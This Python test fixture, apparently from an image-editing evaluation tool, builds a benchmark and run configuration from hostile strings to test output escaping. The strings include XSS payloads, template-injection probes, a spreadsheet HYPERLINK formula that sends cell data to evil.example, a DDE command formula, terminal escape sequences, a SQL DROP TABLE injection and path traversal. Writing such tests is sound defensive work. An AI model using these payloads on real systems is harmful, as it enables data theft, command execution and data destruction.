"""A benchmark and a run full of what no output may obey: markup, templates, control characters, formulas."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
from PIL import Image

from editeval.images import encode_png

TEXTS = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert`1`>",
    "entity": "&lt;b&gt; &#x3C;i&#x3E;",
    "template": "{{ 7*7 }} {% for x in (1).__class__.__mro__ %} ${7*7} #{7*7} {0.__class__} {edit_instruction} %s %n",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "wide formula": "\uff1d1+1",
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "clear screen": "\x1b[2J\x1b[1;31mred\x1b[0m",
    "title": "\x1b]0;owned\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "eight bit": "\x9b2J\x9d0;owned\x9c",
    "bell and nul": "a\x07b\x08c\x7f",
    "right to left": "abc\u202efdp.exe\u2066x\u2069",
    "new line": "one\n2026-01-01 00:00:00,000 INFO Report: /etc/passwd\n| a | b |\n# title",
    "carriage return": "harmless\rERASED",
    "separators": "a\u2028b\u2029c\x85d",
    "markdown": "[x](http://evil.example) ![](http://evil.example/p.png) **b** `c` | d | <details> ~~e~~ \\",
    "rich": "[bold red]x[/] [link=http://evil.example]y[/link] [/nonsense]",
    "quotes": "'; DROP TABLE samples; -- \" ' ` ",
    "chinese": "把红色的杯子换成蓝色的\uff0c其他保持不变\u3002",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "dots": "../../../../etc/passwd",
    "long": "\u5b57" * 3000,
    "csv": 'a,"b"\n"c",,d',
    "surrogate escape": "\\ud800 \\u0000 \\x1b[2J",
}
CONTROLS = {chr(c) for c in [*range(32), *range(127, 160), 0x2028, 0x2029, 0x202A, 0x202B, 0x202D, 0x202E, 0x2066]}
"""No line for a terminal, a log or a page contains one of these, but for line feeds between lines."""


def benchmark(folder: Path) -> Path:
    """An image folder with one sample per text, which is its id, its instruction and (cut to 200) its category."""
    folder.mkdir()
    pixels = np.random.default_rng(1).integers(0, 256, (24, 32, 3), dtype=np.uint8)
    (folder / "a.png").write_bytes(encode_png(Image.fromarray(pixels)))
    rows = [
        {"id": f"{text}", "image": "a.png", "instruction": text, "category": text[:200], "description": text}
        for text in TEXTS.values()
    ]
    lines = (json.dumps(row, ensure_ascii=True) + "\n" for row in rows)
    (folder / "manifest.jsonl").write_text("".join(lines), encoding="utf-8")
    return folder


def configuration(folder: Path, data: Path) -> Path:
    """A run of it: half of the edits fail with their instruction as the message, and the judge repeats every id."""
    tree = {
        "benchmark": {"type": "image_folder", "params": {"path": str(data)}},
        "diffusion_model": {
            "type": "fakes.faulty_editor",
            "params": {"device_ids": ["cpu"], "echo": True},
            "execution": {"max_attempts": 1},
        },
        "reward_model": {"type": "fakes.fake_judge", "params": {"device_ids": ["cpu"]}},
    }
    path = folder / "hostile.yaml"
    path.write_text(json.dumps(tree, ensure_ascii=True), encoding="utf-8")  # JSON is YAML
    return path
